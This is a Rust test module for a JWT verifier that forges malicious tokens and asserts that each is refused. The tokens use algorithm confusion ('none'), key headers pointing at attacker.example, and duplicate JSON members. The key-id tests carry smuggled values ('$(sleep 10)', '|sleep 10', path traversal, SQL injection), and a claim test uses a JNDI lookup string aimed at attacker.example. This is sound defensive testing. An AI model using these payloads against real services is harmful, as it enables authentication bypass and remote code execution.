//! What attackers of tokens try, each with the reason for which it fails.
//!
//! The rows follow the playbook of `ticarpi/jwt_tool`, RFC 8725 and OWASP ASVS 5.0 chapter 9; the tokens are made here. The same
//! attacks over HTTP are in `tests/scenarios/tokens.rs`.

use proptest::prelude::*;

use super::compact::MAX_BYTES;
use super::*;

use TokenRefused::{
    BadSignature, Expired, Malformed, NotYetValid, UnknownKey, WrongAlgorithm, WrongPurpose,
};

type Attack = (&'static str, String, TokenRefused);

fn check(attacks: impl IntoIterator<Item = Attack>) {
    let mint = mint_with(SECRET);
    for (title, token, expected) in attacks {
        assert_eq!(mint.verify(&token, now()), Err(expected), "{title}");
    }
    let honest = forge(&header(), &claims(), SECRET.as_bytes());
    assert!(mint.verify(&honest, now()).is_ok());
}

/// Signs the very texts of header and claims, for what a JSON value cannot hold.
fn forge_texts(header: &str, claims: &str) -> String {
    let part = |text: &str| URL_SAFE_NO_PAD.encode(text);
    sign(
        &format!("{}.{}", part(header), part(claims)),
        SECRET.as_bytes(),
    )
}

fn sign(message: &str, key: &[u8]) -> String {
    let mac = Hmac::<Sha256>::new_from_slice(key)
        .unwrap()
        .chain_update(message)
        .finalize();
    format!("{message}.{}", URL_SAFE_NO_PAD.encode(mac.into_bytes()))
}

fn honest() -> String {
    forge(&header(), &claims(), SECRET.as_bytes())
}

fn message() -> String {
    honest().rsplit_once('.').unwrap().0.to_owned()
}

fn headed(name: &str, value: impl Into<Value>) -> String {
    forge(
        &with(header(), name, value.into()),
        &claims(),
        SECRET.as_bytes(),
    )
}

fn claiming(name: &str, value: impl Into<Value>) -> String {
    forge(
        &header(),
        &with(claims(), name, value.into()),
        SECRET.as_bytes(),
    )
}

fn without(mut object: Value, name: &str) -> Value {
    object.as_object_mut().unwrap().remove(name);
    object
}

#[test]
fn tokens_of_another_form_are_refused() {
    let (honest, message) = (honest(), message());
    let (header, rest) = honest.split_once('.').unwrap();
    let signature = honest.rsplit_once('.').unwrap().1;
    check([
        ("no token at all", String::new(), Malformed),
        ("garbage", "garbage".to_owned(), Malformed),
        ("only dots", "..".to_owned(), Malformed),
        ("two parts", message.clone(), Malformed),
        ("four parts", format!("{honest}.x"), Malformed),
        (
            "a fourth part that is empty",
            format!("{honest}."),
            Malformed,
        ),
        (
            "five parts, as of an encrypted token",
            format!("{honest}.x.y"),
            Malformed,
        ),
        ("no header", format!(".{rest}"), Malformed),
        ("no payload", format!("{header}..{signature}"), Malformed),
        (
            "padding behind the signature",
            format!("{honest}="),
            Malformed,
        ),
        (
            "padding behind the header",
            format!("{header}=.{rest}"),
            Malformed,
        ),
        ("a line break at the end", format!("{honest}\n"), Malformed),
        ("a space before", format!(" {honest}"), Malformed),
        (
            "base64 of the other alphabet",
            honest.replace(['-', '_'], "+"),
            Malformed,
        ),
        ("one byte too long", "A".repeat(MAX_BYTES + 1), Malformed),
        (
            "a JSON serialisation",
            format!("{{\"payload\":\"{rest}\"}}"),
            Malformed,
        ),
    ]);
}

#[test]
fn signatures_that_were_not_made_with_the_key_are_refused() {
    let (honest, message) = (honest(), message());
    let signature = honest.rsplit_once('.').unwrap().1;
    let pem = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n";
    check([
        ("null signature", format!("{message}."), BadSignature),
        (
            "four characters cut",
            honest[..honest.len() - 4].to_owned(),
            BadSignature,
        ),
        (
            "three characters cut",
            honest[..honest.len() - 3].to_owned(),
            BadSignature,
        ),
        (
            "signature doubled",
            format!("{honest}{signature}"),
            Malformed,
        ),
        (
            "signature of zeros",
            format!("{message}.{}", "A".repeat(43)),
            BadSignature,
        ),
        ("blank password", sign(&message, b""), BadSignature),
        (
            "one zero byte for a key",
            sign(&message, b"\0"),
            BadSignature,
        ),
        (
            "another key",
            sign(&message, b"cfcd208495d565ef66e7dff9f98764da"),
            BadSignature,
        ),
        (
            "a public key for a secret",
            sign(&message, pem.as_bytes()),
            BadSignature,
        ),
        (
            "the key's own name for a key",
            sign(&message, key_id_of(&mint_with(SECRET)).as_bytes()),
            BadSignature,
        ),
        (
            "a word of every list",
            sign(&message, b"secret"),
            BadSignature,
        ),
    ]);
}

#[test]
fn other_algorithms_are_refused() {
    for alg in [
        "none", "None", "NONE", "nOnE", "", "hs256", "HS256 ", "HS384", "HS512", "RS256", "RS384",
        "ES256", "PS256", "EdDSA", "dir", "A256KW",
    ] {
        let signed = headed("alg", alg);
        let unsigned = format!("{}.", signed.rsplit_once('.').unwrap().0);
        check([
            ("signed", signed, WrongAlgorithm),
            ("unsigned", unsigned, WrongAlgorithm),
        ]);
    }
    let secret = SECRET.as_bytes();
    check([
        (
            "no algorithm",
            forge(&without(header(), "alg"), &claims(), secret),
            Malformed,
        ),
        (
            "null for an algorithm",
            headed("alg", Value::Null),
            Malformed,
        ),
        (
            "algorithms in a list",
            headed("alg", json!(["HS256"])),
            Malformed,
        ),
        ("a number for an algorithm", headed("alg", 256), Malformed),
    ]);
}

#[test]
fn headers_that_lead_elsewhere_are_refused() {
    let jwk = json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode(SECRET)});
    for (name, value) in [
        ("jwk", jwk),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("x5u", json!("https://attacker.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("crit", json!([])),
        ("crit", json!(["exp"])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("cty", json!("JWT")),
        ("url", json!("https://attacker.example/")),
        ("nonce", json!("x")),
    ] {
        check([(name, headed(name, value), Malformed)]);
    }
}

#[test]
fn names_of_keys_are_looked_up_and_nothing_else() {
    let key_id = key_id_of(&mint_with(SECRET)).to_owned();
    for (kid, key) in [
        ("", &b""[..]),
        ("/dev/null", b""),
        ("../../../../../../dev/null", b""),
        ("/invalid_path", b""),
        ("|sleep 10", b""),
        ("$(sleep 10)", b""),
        ("x' UNION SELECT '1';--", b"1"),
        ("' OR '1'='1", SECRET.as_bytes()),
        ("https://attacker.example/key", SECRET.as_bytes()),
        (&key_id.to_uppercase(), SECRET.as_bytes()),
        (&format!("{key_id}\0"), SECRET.as_bytes()),
        (&key_id[..7], SECRET.as_bytes()),
    ] {
        let token = forge(&with(header(), "kid", json!(kid)), &claims(), key);
        check([("a name that is not ours", token, UnknownKey)]);
    }
    let nameless = forge(&without(header(), "kid"), &claims(), SECRET.as_bytes());
    check([
        ("no name", nameless, UnknownKey),
        ("null for a name", headed("kid", Value::Null), UnknownKey),
        ("a list of names", headed("kid", json!([key_id])), Malformed),
        ("true for a name", headed("kid", true), Malformed),
    ]);
}

#[test]
fn tokens_for_something_else_are_refused() {
    let secret = SECRET.as_bytes();
    check([
        (
            "another issuer",
            claiming("iss", "attacker.example"),
            WrongPurpose,
        ),
        (
            "another audience",
            claiming("aud", "miniapp.expert/operators"),
            WrongPurpose,
        ),
        (
            "a refresh token",
            claiming("token_type", "refresh"),
            WrongPurpose,
        ),
        (
            "another type in the header",
            headed("typ", "at+jwt"),
            WrongPurpose,
        ),
        (
            "no type in the header",
            forge(&without(header(), "typ"), &claims(), secret),
            WrongPurpose,
        ),
        (
            "somebody else's subject",
            claiming("sub", "8"),
            WrongPurpose,
        ),
        (
            "somebody else's number",
            claiming("user_id", 8),
            WrongPurpose,
        ),
        ("a subject with a sign", claiming("sub", "+7"), WrongPurpose),
        (
            "audiences in a list",
            claiming("aud", json!([AUDIENCE])),
            Malformed,
        ),
        (
            "a role that nobody gave",
            claiming("role", "admin"),
            Malformed,
        ),
        (
            "a session as SQL",
            claiming("sid", "' OR 1=1 --"),
            Malformed,
        ),
        ("an id that is none", claiming("jti", "x"), Malformed),
    ]);
}

#[test]
fn tokens_of_another_time_are_refused() {
    check([
        ("expired this second", claiming("exp", NOW), Expired),
        ("expired long ago", claiming("exp", 0), Expired),
        ("expired before 1970", claiming("exp", -1), Expired),
        (
            "expired as early as there is a number",
            claiming("exp", i64::MIN),
            Expired,
        ),
        ("valid later", claiming("nbf", NOW + 31), NotYetValid),
        ("valid much later", claiming("nbf", i64::MAX), NotYetValid),
        ("issued later", claiming("iat", NOW + 31), NotYetValid),
        ("an end as text", claiming("exp", "9999999999"), Malformed),
        (
            "an end as a fraction",
            claiming("exp", 9_999_999_999.5),
            Malformed,
        ),
        (
            "an end as a whole fraction",
            claiming("exp", 9_999_999_999.0),
            Malformed,
        ),
        (
            "an end beyond all numbers",
            claiming("exp", u64::MAX),
            Malformed,
        ),
    ]);
    for end in [
        "1e400",
        "9.9e9",
        "NaN",
        "Infinity",
        "0x7fffffff",
        "+9999999999",
        "09999999999",
    ] {
        let text = claims().to_string();
        let text = text.replace(
            &format!("\"exp\":{}", NOW + 86_400),
            &format!("\"exp\":{end}"),
        );
        assert!(text.contains(end));
        check([(
            "an end that is no JSON integer",
            forge_texts(&header().to_string(), &text),
            Malformed,
        )]);
    }
    let near = claiming("nbf", NOW + 30);
    assert!(
        mint_with(SECRET).verify(&near, now()).is_ok(),
        "clocks differ by a little"
    );
}

/// Of two values for one name another program might believe the other one.
#[test]
fn members_that_stand_twice_are_refused() {
    let (head, body) = (header().to_string(), claims().to_string());
    let twice = |text: &str, member: &str| text.replacen('{', &format!("{{{member},"), 1);
    check([
        (
            "two algorithms",
            forge_texts(&twice(&head, r#""alg":"none""#), &body),
            Malformed,
        ),
        (
            "one algorithm twice",
            forge_texts(&twice(&head, r#""alg":"HS256""#), &body),
            Malformed,
        ),
        (
            "one algorithm, once escaped",
            forge_texts(&twice(&head, r#""\u0061lg":"none""#), &body),
            Malformed,
        ),
        (
            "two keys",
            forge_texts(&twice(&head, r#""kid":"x""#), &body),
            Malformed,
        ),
        (
            "two ends",
            forge_texts(&head, &twice(&body, r#""exp":9999999999"#)),
            Malformed,
        ),
        (
            "two users",
            forge_texts(&head, &twice(&body, r#""user_id":1"#)),
            Malformed,
        ),
    ]);
}

#[test]
fn what_is_no_object_is_refused() {
    let head = header().to_string();
    let list = json!(["HS256", key_id_of(&mint_with(SECRET)), "JWT"]).to_string();
    check([(
        "a header in a list",
        forge_texts(&list, &claims().to_string()),
        Malformed,
    )]);
    for payload in [
        "{}",
        "[]",
        "null",
        "7",
        "\"text\"",
        "{",
        "{} {}",
        "\u{feff}{}",
        " {}",
    ] {
        check([("a payload", forge_texts(&head, payload), Malformed)]);
    }
    let members = claims();
    let list = [
        "iss",
        "aud",
        "sub",
        "user_id",
        "sid",
        "jti",
        "iat",
        "nbf",
        "exp",
        "token_type",
    ]
    .map(|name| &members[name]);
    check([(
        "claims in a list",
        forge_texts(&head, &json!(list).to_string()),
        Malformed,
    )]);
    let message = format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(&head),
        URL_SAFE_NO_PAD.encode(b"{\"iss\":\"\xff\"}")
    );
    check([(
        "a payload that is not UTF-8",
        sign(&message, SECRET.as_bytes()),
        Malformed,
    )]);
}

/// No claim may be missing, and none may be of another kind.
#[test]
fn each_claim_is_there_and_of_its_kind() {
    for name in claims().as_object().unwrap().keys() {
        let missing = forge(&header(), &without(claims(), name), SECRET.as_bytes());
        check([("missing", missing, Malformed)]);
        for value in [
            Value::Null,
            json!(true),
            json!([]),
            json!({}),
            json!(1.5),
            json!(["' OR 1=1 --"]),
        ] {
            check([("of another kind", claiming(name, value), Malformed)]);
        }
        for text in [
            "",
            "https://attacker.example/",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
        ] {
            let refused = mint_with(SECRET).verify(&claiming(name, text), now());
            assert!(refused.is_err(), "{name}: {text}");
        }
    }
}

/// Claims that would be refused for what they say are refused for the signature first: nothing is read before it.
#[test]
fn no_claim_is_looked_at_before_the_signature_holds() {
    let attacks = [
        with(claims(), "exp", json!(0)),
        with(claims(), "iss", json!("attacker.example")),
        with(claims(), "sid", json!("x")),
        json!({}),
        json!([]),
    ];
    for claims in attacks {
        check([(
            "forged",
            forge(&header(), &claims, b"another"),
            BadSignature,
        )]);
    }
    let undecodable = format!(
        "{}.!!!.{}",
        URL_SAFE_NO_PAD.encode(header().to_string()),
        "A".repeat(43)
    );
    check([("a payload that is no base64", undecodable, BadSignature)]);
}

proptest! {
    #[test]
    fn any_text_is_refused(text in any::<String>()) {
        prop_assert!(mint_with(SECRET).verify(&text, now()).is_err());
    }

    #[test]
    fn any_bytes_in_three_parts_are_refused_with_and_without_a_signature(
        header in prop::collection::vec(any::<u8>(), 0..80),
        payload in prop::collection::vec(any::<u8>(), 0..80),
        signature in prop::collection::vec(any::<u8>(), 0..40),
    ) {
        let message = format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(payload));
        let unsigned = format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature));
        prop_assert!(mint_with(SECRET).verify(&unsigned, now()).is_err());
        prop_assert!(mint_with(SECRET).verify(&sign(&message, SECRET.as_bytes()), now()).is_err());
    }

    #[test]
    fn one_changed_character_anywhere_is_refused(place in any::<prop::sample::Index>(), character in "[A-Za-z0-9_.-]") {
        let honest = honest();
        let place = place.index(honest.len());
        let mut forged = honest.clone();
        forged.replace_range(place..=place, &character);
        prop_assume!(forged != honest);
        prop_assert!(mint_with(SECRET).verify(&forged, now()).is_err());
    }

    #[test]
    fn every_session_survives_its_token(session_id: [u8; 16], token_id: [u8; 16], user in 1..i64::MAX) {
        let mint = mint_with(SECRET);
        let session = Session { id: SessionId::from_random(session_id), ..session() };
        let token = mint.issue(TokenId::from_random(token_id), &session, UserId::new(user)).unwrap();
        let bearer = Bearer { session: session.id, user: UserId::new(user) };
        prop_assert_eq!(mint.verify(&token, now()), Ok(bearer));
    }
}
